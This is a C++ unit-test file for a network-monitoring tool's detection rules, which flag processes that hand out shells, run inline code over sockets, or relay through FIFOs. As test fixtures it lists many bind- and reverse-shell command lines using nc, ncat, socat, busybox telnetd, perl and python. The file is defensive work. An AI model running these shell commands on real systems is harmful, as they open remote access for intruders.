// What hands out shells, runs code from nowhere, or has no business on the network.

#include <catch2/catch.hpp>

#include "tests/unit/query/rules/rule_scene.h"

namespace sockwitness {

using test::RuleScene;

namespace {

constexpr const char* kHere = "10.0.0.5 51234";
constexpr const char* kThere = "198.51.100.7 443";

}  // namespace

TEST_CASE("inline-code-on-network") {
  RuleScene scene;
  struct Row {
    const char* path;
    const char* option;
    const char* code;
    const char* told;
  };
  const Row row = GENERATE(values<Row>({
      {"/usr/bin/perl", "-e", "use Socket; exec('/bin/sh -i')", "high perl(100)"},
      {"/usr/bin/python3.11", "-c", "import socket,subprocess", "high python3.11(100)"},
      {"/usr/bin/python3.11", "-c", "import socket; socket.socket()", "medium python3.11(100)"},
      {"/usr/bin/php8.2", "-r", "$s=fsockopen('x',1);", "medium php8.2(100)"},
      {"/usr/bin/gawk", "{ s = \"/inet/tcp/0/x/1\"; s |& getline }", "", "high gawk(100)"},
      {"/usr/bin/gawk", "{ while (c|&getline l) print l }", "", "high gawk(100)"},
      {"/usr/bin/perl", "-e", "while (<$s>) { eval }", "high perl(100)"},
      {"/usr/bin/ruby3.1", "-e", "puts 1", "low ruby3.1(100)"},
      {"/usr/bin/ruby3.1",
       "-e",
       "s=TCPServer.new(1);Kernel.send('sys'+'tem')",
       "medium ruby3.1(100)"},
      {"/usr/bin/python3.11",
       "-c",
       "import base64 as b;run(b.b64decode('aQ=='))",
       "medium python3.11(100)"},
      {"/usr/bin/node", "-e", "require('http').createServer().listen(1)", "medium node(100)"},
      {"/usr/bin/python3.11",
       "-c",
       "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)",
       ""},
  }));
  CAPTURE(row.code);
  const auto process = scene.run(row.path, {row.path, row.option, row.code});
  const auto socket = scene.connect(process, 3, kHere, kThere);
  CHECK(scene.told("inline-code-on-network") == row.told);
  SECTION("without a socket of its own it is nothing") {
    scene.snapshot.holders.clear();
    CHECK(scene.told("inline-code-on-network").empty());
  }
  SECTION("an inherited socket is not its own") {
    scene.at(process).parent = scene.at(scene.run("/usr/sbin/server")).pid;
    scene.hold(socket, schema::ProcessIndex(2), 3);
    scene.at(schema::ProcessIndex(2)).start = scene.at(process).start;
    CHECK(scene.told("inline-code-on-network").empty());
  }
  SECTION("health checks are younger than two seconds") {
    scene.at(process).start = scene.snapshot.begin.since_boot;
    const bool starts_commands = std::string_view(row.told).starts_with("high");
    CHECK(scene.told("inline-code-on-network") == (starts_commands ? row.told : ""));
  }
  SECTION("what stays on this host is no better, unless it is a server") {
    const bool serves = std::string_view(row.code).find(".listen") != std::string_view::npos;
    for (auto* address : {&scene.at(socket).local_address, &scene.at(socket).remote_address}) {
      *address = *schema::IpAddress::parse("127.0.0.1");
    }
    CHECK(scene.told("inline-code-on-network").starts_with(serves ? "low" : row.told));
  }
}

TEST_CASE("code-from-input") {
  RuleScene scene;
  const auto perl = scene.run("/usr/bin/perl", {"perl"});
  scene.connect(perl, 3, kHere, kThere);
  scene.pipe(perl, 0, 1);
  CHECK(scene.told("code-from-input") == "medium perl(100)");
  SECTION("a prompt") {
    scene.snapshot.descriptors.clear();
    scene.terminal(perl, 1);
    CHECK(scene.told("code-from-input") == "low perl(100)");
  }
  SECTION("a script") {
    scene.give_script(perl, "/srv/a.pl");
    CHECK(scene.told("code-from-input").empty());
  }
  SECTION("a title hides how it was called") {
    scene.at(perl).command_line = std::string("worker: idle\0", 13);
    CHECK(scene.told("code-from-input").empty());
  }
  SECTION("php-cgi is told its scripts") {
    scene.program(perl).path = "/usr/bin/php-cgi8.2";
    scene.at(perl).command_line = std::string("php-cgi\0", 8);
    CHECK(scene.told("code-from-input").empty());
  }
}

TEST_CASE("hands-out-shell: a wrapper that runs a shell for who started it") {
  RuleScene scene;
  const auto wrapper = scene.run("/usr/bin/bear", {"bear", "--", "sh", "-c", "make; true"});
  const auto listener = scene.listen(wrapper, 3, "127.0.0.1 40001");
  CHECK(scene.told("hands-out-shell") == "high bear(100)");
  const auto shell = scene.run(wrapper, "/usr/bin/dash", {"sh", "-c", "make; true"});
  CHECK(scene.told("hands-out-shell") == "low bear(100)");
  SECTION("for everybody") {
    scene.at(listener).local_address = schema::IpAddress();
    CHECK(scene.told("hands-out-shell") == "high bear(100)");
  }
  SECTION("it holds the shell's input") {
    scene.pipe(shell, 0, 5);
    scene.pipe(wrapper, 7, 5);
    CHECK(scene.told("hands-out-shell") == "high bear(100)");
  }
  SECTION("the shell's output is what it was given") {
    scene.pipe(shell, 1, 5);
    scene.pipe(wrapper, 1, 5);
    CHECK(scene.told("hands-out-shell") == "low bear(100)");
  }
}

TEST_CASE("inline-code-on-network: Erlang") {
  const auto [code, told] = GENERATE(table<const char*, const char*>(
      {{"os:cmd(\"id\").", "high beam.smp(100)"},
       {"gen_tcp:connect(\"x\",1,[]).", "medium beam.smp(100)"},
       {"open_port({spawn_executable,\"/bin/sh\"},[]).", "low beam.smp(100)"},
       {"application:start(shop).", "low beam.smp(100)"}}));
  CAPTURE(code);
  RuleScene scene;
  const auto process = scene.run("/usr/lib/erlang/erts-13/bin/beam.smp",
                                 {"/usr/lib/erlang/erts-13/bin/beam.smp", "--", "-eval", code});
  CHECK(scene.told("inline-code-on-network").empty());
  scene.connect(process, 3, "10.0.0.5 50000", "198.51.100.7 443");
  CHECK(scene.told("inline-code-on-network") == told);
}

TEST_CASE("hands-out-shell: by arguments") {
  RuleScene scene;
  struct Row {
    const char* path;
    std::initializer_list<std::string_view> arguments;
    bool listens;
    const char* told;
  };
  const Row rows[] = {
      {"/usr/bin/nc.traditional",
       {"nc", "-lp", "4444", "-e", "/bin/sh"},
       true,
       "critical nc.traditional(100)"},
      {"/usr/bin/nc.traditional",
       {"nc", "-e/bin/bash", "x", "1"},
       false,
       "critical nc.traditional(100)"},
      {"/usr/bin/ncat", {"ncat", "-lke", "/bin/bash", "4444"}, true, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "--sh-exec", "bash -i", "x", "1"}, false, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "--exec=/bin/sh", "x", "1"}, false, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-l", "1", "-e", "/usr/bin/date"}, true, "high ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-lk", "1", "-c", "exec sh"}, true, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-lk", "1", "-c", "shuf"}, true, "high ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-l", "1"}, true, ""},
      {"/usr/bin/ncat", {"ncat", "-lke/bin/bash", "::1", "1"}, true, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-lkcbash -i", "::1", "1"}, true, "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-lk", "1", "--sh", "bash -i"}, true, "critical ncat(100)"},
      {"/usr/bin/ncat",
       {"ncat", "-l", "1", "--lua-exec", "/opt/x.lua"},
       true,
       "critical ncat(100)"},
      {"/usr/bin/ncat", {"ncat", "-l", "1", "-o/tmp/etc"}, true, ""},
      {"/usr/bin/nc.traditional",
       {"nc", "-lp", "1", "-csh -i"},
       true,
       "critical nc.traditional(100)"},
      {"/lib64/ld-linux-x86-64.so.2",
       {"ld.so", "/usr/bin/nc.traditional", "-lp", "1", "-e", "/bin/sh"},
       true,
       "critical ld-linux-x86-64(100)"},
      {"/usr/bin/socat",
       {"socat", "TCP-LISTEN:1", "STDIN!!EXEC:/bin/sh"},
       true,
       "critical socat(100)"},
      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", " EXEC:/bin/sh"}, true, "critical socat(100)"},
      {"/usr/bin/busybox",
       {"busybox", "nc", "-lp", "1", "-e", "sh"},
       true,
       "critical busybox(100)"},
      {"/usr/bin/busybox",
       {"busybox", "telnetd", "-p", "1", "-l", "/bin/sh"},
       true,
       "critical busybox(100)"},
      {"/usr/sbin/telnetd", {"in.telnetd", "-L", "/bin/sh"}, false, "critical telnetd(100)"},
      {"/usr/sbin/telnetd", {"in.telnetd"}, false, ""},
      {"/usr/bin/socat",
       {"socat", "TCP-LISTEN:1,fork", "EXEC:/bin/bash,pty,stderr"},
       true,
       "critical socat(100)"},
      {"/usr/bin/socat", {"socat", "TCP:x:1", "system:\"bash -i\""}, false, "critical socat(100)"},
      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "EXEC:/usr/bin/date"}, true, "high socat(100)"},
      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "TCP:10.0.0.1:1"}, true, ""},
      {"/usr/bin/tcpserver", {"tcpserver", "0", "4444", "/bin/sh"}, true, "high tcpserver(100)"},
      {"/usr/bin/systemd-socket-activate",
       {"systemd-socket-activate", "-l", "80", "/bin/sh", "/srv/answer"},
       true,
       "low systemd-socket-(100)"},
      {"/usr/bin/systemd-socket-activate",
       {"systemd-socket-activate", "-l", "80", "/bin/sh", "/tmp/answer"},
       true,
       "high systemd-socket-(100)"},
      {"/usr/bin/ssh", {"ssh", "host", "/bin/bash"}, false, ""},
      {"/usr/bin/kubectl", {"kubectl", "exec", "-it", "pod", "--", "/bin/bash"}, false, ""},
      {"/usr/bin/xterm", {"xterm", "-e", "/bin/bash"}, false, ""},
      {"/usr/bin/python3.11", {"python3", "/srv/a.py", "bash"}, true, ""},
      {"/usr/sbin/nginx", {"nginx", "-c", "/etc/nginx/nginx.conf"}, true, ""},
  };
  for (const Row& row : rows) {
    RuleScene each;
    const auto process = each.run(row.path, row.arguments);
    if (row.listens) {
      each.listen(process, 3, "0.0.0.0 4444");
    } else {
      each.connect(process, 3, kHere, kThere);
    }
    CAPTURE(row.path, *each.at(process).command_line);
    CHECK(each.told("hands-out-shell") == row.told);
  }
  SECTION("a renamed netcat of no package") {
    const auto copy = scene.run_unowned("/tmp/x", {"x", "-e", "/bin/sh", "host", "1"});
    scene.connect(copy, 3, kHere, kThere);
    CHECK(scene.told("hands-out-shell") == "critical x(100)");
  }
  SECTION("at a unix socket") {
    const auto socat = scene.run("/usr/bin/socat", {"socat", "UNIX-LISTEN:/run/x", "EXEC:/bin/sh"});
    CHECK(scene.told("hands-out-shell").empty());
    scene.hold(scene.unix_socket(schema::SocketState::Listen, "/run/x"), socat, 5);
    CHECK(scene.told("hands-out-shell") == "high socat(100)");
    scene.give_unit(socat, "console.service");
    CHECK(scene.told("hands-out-shell") == "medium socat(100)");
    scene.at(socat).command_line = std::string("socat\0UNIX-LISTEN:/run/x\0EXEC:date\0", 36);
    CHECK(scene.told("hands-out-shell").empty());
  }
  SECTION("a web terminal of a package in its unit") {
    const auto ttyd = scene.run("/usr/bin/ttyd", {"ttyd", "-p", "80", "bash"});
    scene.listen(ttyd, 3, "0.0.0.0 80");
    CHECK(scene.told("hands-out-shell") == "high ttyd(100)");
    scene.give_unit(ttyd, "ttyd.service");
    CHECK(scene.told("hands-out-shell") == "medium ttyd(100)");
  }
}

TEST_CASE("fifo-relay") {
  RuleScene scene;
  const auto nc = scene.run("/usr/bin/nc.openbsd", {"nc", "x", "1"});
  scene.connect(nc, 3, kHere, kThere);
  scene.fifo(nc, 0, "/tmp/.f");
  CHECK(scene.told("fifo-relay").empty());  // one way only
  scene.pipe(nc, 1, 7);
  CHECK(scene.told("fifo-relay") == "high nc.openbsd(100)");
  SECTION("in a unit") {
    scene.give_unit(nc, "feed.service");
    CHECK(scene.told("fifo-relay") == "low nc.openbsd(100)");
  }
  SECTION("ssh is no such tool") {
    scene.program(nc).path = "/usr/bin/ssh";
    CHECK(scene.told("fifo-relay").empty());
    scene.program(nc).verdict = schema::PackageVerdict::NotOwned;
    CHECK(scene.told("fifo-relay") == "high nc.openbsd(100)");
  }
  RuleScene quiet;
  const auto other = quiet.run("/usr/bin/socat", {"socat"});
  quiet.connect(other, 3, kHere, kThere);
  quiet.fifo(other, 0, "/var/lib/daemon/control");
  quiet.pipe(other, 1, 7);
  quiet.fifo(other, 5, "/tmp/other");
  quiet.fifo(quiet.run("/usr/bin/cat"), 0, "/tmp/f");
  CHECK(quiet.told("fifo-relay").empty());
}

TEST_CASE("tool-on-network") {
  RuleScene scene;
  const auto sleep = scene.run("/usr/bin/sleep");
  scene.program(sleep).package = "coreutils";
  const auto socket = scene.connect(sleep, 5, kHere, kThere);
  CHECK(scene.told("tool-on-network") == "high sleep(100)");
  SECTION("below the script that holds the connection") {
    const auto script = scene.run("/usr/bin/bash", {"bash", "/usr/local/bin/answer"});
    scene.hold(socket, script, 0);
    scene.at(script).start = schema::BootTime{1};
    scene.at(sleep).parent = scene.at(script).pid;
    CHECK(scene.told("tool-on-network").empty());
  }
  SECTION("logger sends to syslog servers") {
    scene.program(sleep).path = "/usr/bin/logger";
    scene.program(sleep).package = "bsdutils";
    CHECK(scene.told("tool-on-network").empty());
  }
  SECTION("a service of inetd") {
    const auto inetd = scene.run("/usr/sbin/inetd");
    scene.listen(inetd, 4, "0.0.0.0 51234");
    scene.at(inetd).start = schema::BootTime{1};
    scene.at(sleep).parent = scene.at(inetd).pid;
    CHECK(scene.told("tool-on-network") == "low sleep(100)");
  }
}

}  // namespace sockwitness
